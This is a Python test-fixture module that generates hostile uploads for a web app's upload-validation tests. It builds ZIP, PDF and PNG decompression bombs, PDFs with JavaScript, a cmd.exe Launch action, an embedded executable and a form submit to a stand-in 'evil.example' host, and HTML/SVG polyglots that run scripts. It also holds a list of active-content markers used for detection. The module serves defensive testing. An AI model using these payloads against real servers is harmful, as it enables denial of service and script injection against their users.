"""Hostile uploads, built in code: small files that would cost a careless server gigabytes or run
scripts in a reader's PDF viewer. Used by tests/test_upload_safety.py and the child process that
measures memory and time."""

from __future__ import annotations

import bz2
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from PIL import Image

MB = 1024 * 1024
ODT_TYPE = b"application/vnd.oasis.opendocument.text"
DOCX_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="'
    b'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCX_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Ohjelma</w:t></w:r></w:p></w:body></w:document>"
)


# ZIP ------------------------------------------------------------------------------------------------


@dataclass
class Member:
    """One raw ZIP entry: the bytes as stored and what the headers claim about them."""

    name: str
    payload: bytes  # as stored (already compressed for method 8)
    method: int = zipfile.ZIP_STORED
    crc: int | None = None  # default: CRC of the payload (right for stored members)
    size: int | None = None  # claimed unpacked size; default: len(payload)
    flags: int = 0
    offset: int | None = None  # claimed header offset in the central directory; default: the real one


def raw_zip(members: list[Member], *, comment: bytes = b"", before: bytes = b"", after: bytes = b"") -> bytes:
    """A ZIP written by hand, so that its headers can lie."""
    out = io.BytesIO()
    out.write(before)
    offsets = []
    for member in members:
        name = member.name.encode()
        crc = zlib.crc32(member.payload) if member.crc is None else member.crc
        size = len(member.payload) if member.size is None else member.size
        offsets.append(out.tell() if member.offset is None else member.offset)
        out.write(
            struct.pack(
                "<4sHHHHHIIIHH",
                b"PK\x03\x04",
                20,
                member.flags,
                member.method,
                0,
                0x21,
                crc,
                len(member.payload),
                size,
                len(name),
                0,
            )
        )
        out.write(name + member.payload)
    directory = out.tell()
    for member, offset in zip(members, offsets, strict=True):
        name = member.name.encode()
        crc = zlib.crc32(member.payload) if member.crc is None else member.crc
        size = len(member.payload) if member.size is None else member.size
        out.write(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                member.flags,
                member.method,
                0,
                0x21,
                crc,
                len(member.payload),
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
        )
        out.write(name)
    end = out.tell()
    out.write(
        struct.pack(
            "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), end - directory, directory, len(comment)
        )
    )
    out.write(comment + after)
    return out.getvalue()


def deflated(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


def deflated_zeros(megabytes: int) -> bytes:
    """A raw deflate stream of `megabytes` MB of zeros, about 1 KB per MB, made in milliseconds:
    one fully flushed megabyte refers to nothing before it, so it can simply be repeated."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = compressor.compress(b"\0" * MB) + compressor.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS).flush()  # an empty last block
    return block * megabytes + final


def deflated_zeros_exactly(count: int) -> bytes:
    """A raw deflate stream of exactly `count` zero bytes."""
    megabytes, rest = divmod(count, MB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = compressor.compress(b"\0" * MB) + compressor.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return block * megabytes + last.compress(b"\0" * rest) + last.flush()


def zlib_zeros(count: int) -> bytes:
    """A zlib stream (header, deflate, Adler-32) of `count` zero bytes. The Adler-32 of zeros is
    1 + (count mod 65521) << 16: no need to sum them."""
    return b"\x78\xda" + deflated_zeros_exactly(count) + struct.pack(">I", ((count % 65521) << 16) | 1)


def crc_of_zeros(megabytes: int) -> int:
    crc, chunk = 0, b"\0" * MB
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    return crc


def docx_members() -> list[Member]:
    return [
        Member(
            "[Content_Types].xml",
            deflated(DOCX_CONTENT_TYPES),
            zipfile.ZIP_DEFLATED,
            crc=zlib.crc32(DOCX_CONTENT_TYPES),
            size=len(DOCX_CONTENT_TYPES),
        ),
        Member(
            "word/document.xml",
            deflated(DOCX_DOCUMENT),
            zipfile.ZIP_DEFLATED,
            crc=zlib.crc32(DOCX_DOCUMENT),
            size=len(DOCX_DOCUMENT),
        ),
    ]


def docx() -> bytes:
    return raw_zip(docx_members())


def docx_streamed() -> bytes:
    """As a program writing to a pipe makes it: sizes in data descriptors after each member."""

    class Pipe(io.RawIOBase):
        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, b: bytes) -> int:  # type: ignore[override]
            self.data.extend(b)
            return len(b)

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", DOCX_CONTENT_TYPES)
        archive.writestr("word/document.xml", DOCX_DOCUMENT)
    return bytes(pipe.data)


def odt() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), ODT_TYPE, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", b"<office:document-content/>")
    return buffer.getvalue()


def odt_bzip2_bomb(megabytes: int = 8) -> bytes:
    """The reported attack: `mimetype` compressed with bzip2, a few hundred bytes that unpack to
    `megabytes` MB (the original 919 bytes unpacked to 2.2 GB)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("mimetype")
        info.compress_type = zipfile.ZIP_BZIP2
        with archive.open(info, "w", force_zip64=False) as member:
            member.write(ODT_TYPE)
            compressor_chunk = b" " * MB
            for _ in range(megabytes):
                member.write(compressor_chunk)
    return buffer.getvalue()


def bzip2_payload_size(megabytes: int) -> int:
    return len(bz2.compress(b" " * (megabytes * MB)))


def docx_deflate_bomb(megabytes: int = 1024) -> bytes:
    """word/document.xml honestly declared as `megabytes` MB, about 1 KB of data per MB."""
    members = docx_members()
    members[1] = Member(
        "word/document.xml", deflated_zeros(megabytes), zipfile.ZIP_DEFLATED, crc=0, size=megabytes * MB
    )
    return raw_zip(members)


def docx_lying_size_bomb(megabytes: int = 1024) -> bytes:
    """word/document.xml claims 1,000 bytes (with their CRC) but its data unpacks to gigabytes: a
    program that trusts the stream rather than the header fills its memory."""
    members = docx_members()
    members[1] = Member(
        "word/document.xml", deflated_zeros(megabytes), zipfile.ZIP_DEFLATED, crc=zlib.crc32(b"\0" * 1000), size=1000
    )
    return raw_zip(members)


def docx_many_small_bombs(count: int = 120, megabytes: int = 1) -> bytes:
    """Many members just under any per-member limit that add up to more than the total allowed."""
    members = docx_members()
    zeros = deflated_zeros(megabytes)
    crc = crc_of_zeros(megabytes)
    members += [
        Member(f"word/media/part{i}.bin", zeros, zipfile.ZIP_DEFLATED, crc=crc, size=megabytes * MB)
        for i in range(count)
    ]
    return raw_zip(members)


def docx_overlapping() -> bytes:
    """David Fifield's non-recursive bomb, in miniature: many directory entries point at the same
    compressed data, so it is counted once in the file and many times when unpacked."""
    members = docx_members()
    picture = bytes(range(256)) * 256  # 64 KB stored as is: within every size and ratio limit
    shared = Member("word/media/a.bin", picture)
    offset = len(raw_zip(members)) - 22 - sum(46 + len(m.name) for m in members)  # where `shared` starts
    copies = [Member(f"word/media/{i}.bin", picture, offset=offset) for i in range(30)]
    return raw_zip([*members, shared, *copies])


def docx_too_many_members(count: int = 5000) -> bytes:
    return raw_zip([*docx_members(), *(Member(f"x/{i}", b"") for i in range(count))])


def docx_with_macros() -> bytes:
    return raw_zip([*docx_members(), Member("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")])


def odt_with_macros() -> bytes:
    return raw_zip([Member("mimetype", ODT_TYPE), Member("Basic/Standard/Module1.xml", b"<script/>")])


def docx_encrypted() -> bytes:
    members = docx_members()
    for member in members:
        member.flags |= 0x1
    return raw_zip(members)


def docx_with_html_after() -> bytes:
    """A polyglot: a working DOCX that a browser sniffing from the end would take for HTML."""
    return docx() + b"<html><script>alert(document.cookie)</script></html>"


def docx_with_html_comment() -> bytes:
    return raw_zip(docx_members(), comment=b"<html><script>alert(1)</script></html>")


def docx_with_duplicate_names() -> bytes:
    members = docx_members()
    return raw_zip([*members, Member("word/document.xml", b"<w:document/>")])


# PDF ------------------------------------------------------------------------------------------------


def build_pdf(objects: dict[int, bytes], *, root: int = 1, size: int | None = None) -> bytes:
    """A PDF from numbered object bodies (a body may end with a stream), with a correct xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n")
    xref = out.tell()
    highest = max(objects)
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (highest + 1))
    for number in range(1, highest + 1):
        if number in offsets:
            out.write(b"%010d 00000 n \n" % offsets[number])
        else:
            out.write(b"0000000000 65535 f \n")
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size or highest + 1, root, xref))
    return out.getvalue()


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), dictionary) + data + b"\nendstream"


PAGE_TEXT = b"BT /F1 12 Tf 20 100 Td (Kuitti 23,40) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def simple_pdf() -> bytes:
    return build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            4: stream(PAGE_TEXT),
            5: FONT,
        }
    )


# Every way a PDF can run something, open something or carry a file (each marker must be gone).
ACTIVE_MARKERS = [
    b"/JavaScript",
    b"/JS",
    b"/OpenAction",
    b"/AA",
    b"/Launch",
    b"/EmbeddedFile",
    b"/EF",
    b"/AcroForm",
    b"/XFA",
    b"/Widget",
    b"/FileAttachment",
    b"/SubmitForm",
    b"/RichMedia",
    b"javascript:",
    b"app.alert",
    b"cmd.exe",
    b"MZ-evil",
]


def pdf_with_scripts() -> bytes:
    """Open action, document scripts, page open/close actions, script and launch links, a link
    whose chained action is a script, a form with XFA, and an embedded .exe both in the name tree
    and as a file-attachment annotation. One web link and one note are harmless and must stay."""
    script = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"
    return build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> "
            b"/Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >> /AcroForm << /Fields [12 0 R] /XFA 13 0 R >> >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Resources << /Font << /F1 5 0 R >> >> >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
            b"/AA << /O 6 0 R /C 6 0 R >> "
            b"/Annots [10 0 R 11 0 R 12 0 R 14 0 R 15 0 R 16 0 R 17 0 R 18 0 R 19 0 R 20 0 R] >>",
            4: stream(PAGE_TEXT),
            5: FONT,
            6: script,
            7: b"<< /Names [(init) 6 0 R] >>",
            8: stream(b"MZ-evil program", b"/Type /EmbeddedFile"),
            9: b"<< /Names [(evil.exe) << /Type /Filespec /F (evil.exe) /EF << /F 8 0 R >> >>] >>",
            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A 6 0 R >>",
            11: b"<< /Type /Annot /Subtype /Link /Rect [0 50 50 100] "
            b"/A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>",
            12: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [50 0 100 50] /AA << /K 6 0 R >> "
            b"/A << /S /SubmitForm /F (https://evil.example/) >> >>",
            13: stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>"),
            14: b"<< /Type /Annot /Subtype /Link /Rect [50 50 100 100] /A << /S /Launch /F (cmd.exe) >> >>",
            15: b"<< /Type /Annot /Subtype /FileAttachment /Rect [100 0 150 50] "
            b"/FS << /Type /Filespec /F (evil.exe) /EF << /F 8 0 R >> >> >>",
            16: b"<< /Type /Annot /Subtype /Link /Rect [100 50 150 100] "
            b"/A << /S /URI /URI (https://example.org/) /Next 6 0 R >> >>",
            17: b"<< /Type /Annot /Subtype /Link /Rect [150 0 200 50] "
            b"/A << /S /URI /URI (https://kokemus.example/) >> >>",
            18: b"<< /Type /Annot /Subtype /Text /Rect [150 50 200 100] /Contents (Huom) /AA << /E 6 0 R >> >>",
            19: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 100 50 150] /RichMediaContent << >> >>",
            # The same in disguise: #xx escapes in names spell /JavaScript, /JS and /AA.
            20: b"<< /Type /Annot /Subtype /Link /Rect [50 100 100 150] "
            b"/A << /S /Java#53cript /J#53 (app.alert\\(3\\)) >> /A#41 << /O 6 0 R >> >>",
        }
    )


def pdf_flate_bomb(megabytes: int = 1024) -> bytes:
    """A page whose content stream is ~1 MB of deflate that unpacks to a gigabyte."""
    # zlib header, the deflate data, and a wrong checksum: the bomb must be refused before its end.
    content = b"\x78\xda" + deflated_zeros(megabytes) + struct.pack(">I", 1)
    return build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
            4: stream(content, b"/Filter /FlateDecode"),
        }
    )


def pdf_many_small_bombs(count: int = 40, megabytes: int = 8) -> bytes:
    """Many streams each under the per-stream cap that together unpack to far more than allowed."""
    zeros = b"\x78\xda" + deflated_zeros(megabytes) + struct.pack(">I", zlib.adler32(b"\0" * (megabytes * MB)))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents [%s] >>"
        % b" ".join(b"%d 0 R" % (10 + i) for i in range(count)),
    }
    for i in range(count):
        objects[10 + i] = stream(zeros, b"/Filter /FlateDecode")
    return build_pdf(objects)


def pdf_image_bomb() -> bytes:
    """An image XObject that declares 100,000 × 100,000 pixels."""
    return build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
            b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
            4: stream(b"q 200 0 0 200 0 0 cm /Im1 Do Q"),
            5: stream(
                b"\xff\xd8\xff\xd9",
                b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB "
                b"/BitsPerComponent 8 /Filter /DCTDecode",
            ),
        }
    )


def pdf_deeply_nested(depth: int = 100_000) -> bytes:
    """An array nested `depth` levels deep in the page: recursive parsers run out of stack."""
    return build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Deep " + b"[" * depth + b"]" * depth + b" >>",
        }
    )


def pdf_deep_dictionaries(depth: int = 20_000) -> bytes:
    return build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Deep "
            + b"<< /A " * depth
            + b"1"
            + b" >>" * depth
            + b" >>",
        }
    )


def pdf_long_reference_chain(length: int = 150_000) -> bytes:
    """Objects that refer to the next one, `length` of them: a walk that follows references by
    recursion (or without a budget) runs out of stack or time."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Chain 4 0 R >>",
    }
    for number in range(4, 4 + length):
        objects[number] = b"[%d 0 R]" % (number + 1)
    objects[4 + length] = b"null"
    return build_pdf(objects)


def pdf_slow_to_parse(objects: int = 250, elements: int = 19_000) -> bytes:
    """Within every count limit, yet millions of numbers for pypdf to read one by one: only the
    CPU-time limit of the child process stops it."""
    numbers = b"[" + b"1 " * elements + b"]"
    kids = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Data [%s] >>"
        % b" ".join(b"%d 0 R" % (10 + i) for i in range(objects)),
    }
    kids.update({10 + i: numbers for i in range(objects)})
    return build_pdf(kids)


def pdf_many_pages(count: int = 200_000) -> bytes:
    """One page object listed `count` times in the page tree."""
    kids = b" ".join(b"3 0 R" for _ in range(count))
    return build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        }
    )


def pdf_page_tree_loop() -> bytes:
    return build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        }
    )


def pdf_encrypted() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(simple_pdf())))
    writer.encrypt(user_password="salasana", owner_password="omistaja", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_zip_after() -> bytes:
    """A PDF+ZIP polyglot: what is stored must be the PDF alone."""
    return simple_pdf() + docx()


def html_named_pdf() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"


# Images ---------------------------------------------------------------------------------------------


def image_bytes(image: Image.Image, fmt: str, **params: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **params)
    return buffer.getvalue()


def png_of_zeros(width: int, height: int, *, bit_depth: int, colour_type: int, channels: int) -> bytes:
    """A black (or transparent) PNG written by hand, in milliseconds whatever its size: every
    scanline is a zero filter byte and zero pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = 1 + (width * channels * bit_depth + 7) // 8
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib_zeros(row * height)) + chunk(b"IEND", b"")
    )


def png_bomb(side: int = 20_000) -> bytes:
    """About 50 KB of PNG that decode to side × side pixels (400 million by default)."""
    return png_of_zeros(side, side, bit_depth=1, colour_type=0, channels=1)


def png_just_under_the_pixel_limit(width: int = 6000, height: int = 6000) -> bytes:
    """36 million RGBA pixels: under the 40 million pixel cap, but 144 MB once decoded."""
    return png_of_zeros(width, height, bit_depth=8, colour_type=6, channels=4)


def jpeg_with_huge_header(width: int = 65_000, height: int = 65_000) -> bytes:
    """A tiny JPEG whose frame header claims 65,000 × 65,000 pixels."""
    data = bytearray(image_bytes(Image.new("RGB", (16, 16), "white"), "JPEG"))
    position = data.index(b"\xff\xc0")
    data[position + 5 : position + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def svg_named_png() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'


def html_with_png_signature() -> bytes:
    """PNG magic bytes, then HTML: sniffed as PNG, but not an image."""
    return b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>"


def jpeg_html_polyglot() -> bytes:
    """A valid JPEG with HTML in a comment segment: stored images must be freshly encoded."""
    return image_bytes(Image.new("RGB", (32, 32), "white"), "JPEG", comment=b"<html><script>alert(1)</script>")


# The forms that take uploads ---------------------------------------------------------------------------


def upload(data: bytes, name: str = "file.bin", content_type: str = "application/octet-stream") -> Any:
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data, content_type=content_type)


def refusal_codes(form_name: str, data: bytes) -> list[str]:
    """What the form that takes this kind of upload says about it ([] when it is accepted)."""
    from django.core.exceptions import ValidationError

    from engagements.forms import AttachmentForm, clean_receipt
    from experts.forms import PhotoForm

    if form_name == "attachment":
        form = AttachmentForm(files={"file": upload(data)})
        return [] if form.is_valid() else [e.code or "" for e in form.errors.as_data()["file"]]
    if form_name == "receipt":
        try:
            clean_receipt(upload(data))
        except ValidationError as exc:
            return [exc.code or ""]
        return []
    photo = PhotoForm(files={"photo": upload(data)})
    return [] if photo.is_valid() else [e.code or "" for e in photo.errors.as_data()["photo"]]


# The catalogue ---------------------------------------------------------------------------------------

# name: (builder, form, expected error code). Forms: "attachment", "receipt", "photo".
HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "odt-bzip2-bomb": (odt_bzip2_bomb, "attachment", "invalid_document"),
    "docx-deflate-bomb": (docx_deflate_bomb, "attachment", "too_large_unpacked"),
    "docx-lying-size-bomb": (docx_lying_size_bomb, "attachment", "too_large_unpacked"),
    "docx-many-small-bombs": (docx_many_small_bombs, "attachment", "too_large_unpacked"),
    "docx-overlapping-members": (docx_overlapping, "attachment", "invalid_document"),
    "docx-too-many-members": (docx_too_many_members, "attachment", "too_large_unpacked"),
    "docx-macros": (docx_with_macros, "attachment", "macros"),
    "odt-macros": (odt_with_macros, "attachment", "macros"),
    "docx-encrypted": (docx_encrypted, "attachment", "encrypted"),
    "docx-html-after": (docx_with_html_after, "attachment", "invalid_document"),
    "docx-html-comment": (docx_with_html_comment, "attachment", "invalid_document"),
    "docx-duplicate-names": (docx_with_duplicate_names, "attachment", "invalid_document"),
    "html-named-pdf": (html_named_pdf, "attachment", "invalid_type"),
    "pdf-flate-bomb": (pdf_flate_bomb, "attachment", "pdf_too_complex"),
    "pdf-many-small-bombs": (pdf_many_small_bombs, "receipt", "pdf_too_complex"),
    "pdf-image-bomb": (pdf_image_bomb, "attachment", "pdf_too_complex"),
    "pdf-deeply-nested-arrays": (pdf_deeply_nested, "attachment", "pdf_too_complex"),
    "pdf-deeply-nested-dictionaries": (pdf_deep_dictionaries, "receipt", "pdf_too_complex"),
    "pdf-long-reference-chain": (pdf_long_reference_chain, "attachment", "pdf_too_complex"),
    "pdf-many-pages": (pdf_many_pages, "attachment", "pdf_too_complex"),
    "pdf-slow-to-parse": (pdf_slow_to_parse, "attachment", "pdf_too_complex"),
    "pdf-page-tree-loop": (pdf_page_tree_loop, "attachment", "invalid_pdf"),
    "pdf-encrypted": (pdf_encrypted, "receipt", "encrypted"),
    "png-bomb": (png_bomb, "photo", "too_many_pixels"),
    "png-bomb-as-receipt": (png_bomb, "receipt", "too_many_pixels"),
    "png-144-mb-decoded": (png_just_under_the_pixel_limit, "photo", "too_many_pixels"),
    "jpeg-huge-header": (jpeg_with_huge_header, "receipt", "too_many_pixels"),
    "svg-named-png": (svg_named_png, "photo", "invalid_image"),
    "html-with-png-signature": (html_with_png_signature, "receipt", "invalid_image"),
}
